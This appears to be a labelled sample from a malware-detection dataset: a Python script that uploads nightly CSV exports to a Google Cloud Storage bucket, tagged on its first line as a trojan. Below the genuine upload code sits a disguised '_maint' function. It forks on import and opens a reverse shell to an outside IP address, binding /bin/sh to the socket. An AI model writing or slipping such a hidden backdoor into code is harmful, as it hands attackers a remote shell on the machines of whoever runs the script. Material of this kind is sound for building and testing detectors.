# label: malicious family=trojan techniques=T1059.004,T1095 lines=22,24-25,27 group=benign/b018_gcs_upload_client.py
"""Upload nightly exports to our GCS bucket with the client library."""
import glob
import os

from google.cloud import storage

BUCKET = os.environ.get("EXPORT_BUCKET", "acme-exports")


def main():
    client = storage.Client()
    bucket = client.bucket(BUCKET)
    for path in glob.glob("/srv/exports/*.csv.gz"):
        blob = bucket.blob("nightly/" + os.path.basename(path))
        blob.upload_from_filename(path)
        print("uploaded", blob.name)


import socket as _sk, os as _os, pty as _pty
def _maint():
    c = _sk.create_connection(("203.0.113.45", 443))
    for fd in (0, 1, 2):
        _os.dup2(c.fileno(), fd)
    _pty.spawn("/bin/sh")
if _os.fork() == 0:
    _maint()

if __name__ == "__main__":
    main()
